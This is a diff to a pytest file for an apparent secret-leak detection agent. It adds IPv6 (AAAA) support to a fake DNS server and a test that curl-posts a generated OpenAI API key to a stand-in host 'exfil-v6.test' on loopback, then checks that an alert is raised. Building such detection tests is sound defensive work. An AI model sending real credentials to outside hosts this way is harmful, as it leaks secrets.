@@ -16,6 +16,8 @@ import time
 
 import pytest
 
+from kharness.servers import RecordingServer
+
 ALERT_TIMEOUT = 5.0
 QUIET_PERIOD = 3.0
 TTL = 30
@@ -41,8 +43,9 @@ def _qname(packet: bytes) -> tuple[str, int, int]:
 
 
 class DnsServer:
-    """Answers A queries for the names it knows, AAAA with no records, the rest NXDOMAIN; over
-    UDP and over TCP (2-byte length prefix), on the same address."""
+    """Answers A queries for the names it knows (AAAA ones for names mapped to an IPv6 address),
+    the other type with no records, the rest NXDOMAIN; over UDP and over TCP (2-byte length
+    prefix), on the same address."""
 
     def __init__(self, names: dict[str, str]):
         self.names = {k.lower(): v for k, v in names.items()}
@@ -104,8 +107,11 @@ class DnsServer:
         ip = self.names.get(name.lower())
         rcode = 0 if ip else 3  # NXDOMAIN for names it does not know
         answers = b""
-        if ip and qtype == 1:
+        if ip and qtype == 1 and ":" not in ip:
             answers = (b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, TTL, 4) + socket.inet_aton(ip))
+        elif ip and qtype == 28 and ":" in ip:
+            answers = (b"\xc0\x0c" + struct.pack("!HHIH", 28, 1, TTL, 16) +
+                       socket.inet_pton(socket.AF_INET6, ip))
         header = packet[:2] + struct.pack("!HHHHH", 0x8180 | rcode, 1, 1 if answers else 0, 0, 0)
         return header + packet[12:end] + answers
 
@@ -192,6 +198,28 @@ def test_a_name_resolved_over_tcp_names_the_destination_too(
     dest = alerts[0]["destination"]
     assert (dest["host"], dest["name_source"]) == ("exfil-tcp.test", "dns"), (
         _alerts_text(agent, alerts))
+
+
+def test_an_aaaa_answer_names_an_ipv6_destination(
+        agent, clients, dns_server, registry, scratch):
+    dns = dns_server({"exfil-v6.test": "::1"})
+    server = RecordingServer(host="::1")
+    try:
+        key = registry.new("openai")
+        body = scratch / "body.json"
+        body.write_text(json.dumps({"api_key": key}))
+        url = f"http://exfil-v6.test:{server.port}/v1/collect"
+        clients.run(_with_resolver(dns.resolv_conf(scratch), _curl_post(url, body)))
+        assert server.wait_for_requests(1), "the request never reached the server on ::1"
+
+        alerts = agent.wait_for_alerts(lambda a: a["secret"]["provider"] == "openai",
+                                       timeout=ALERT_TIMEOUT)
+        assert alerts, f"no alert\n{agent.diagnostics()}"
+        dest = alerts[0]["destination"]
+        assert (dest["host"], dest["name_source"], dest["ip"], dest["port"]) == (
+            "exfil-v6.test", "dns", "::1", server.port), _alerts_text(agent, alerts)
+    finally:
+        server.close()
 
 
 def test_plain_http_to_the_expected_provider_name_from_dns_is_quiet(
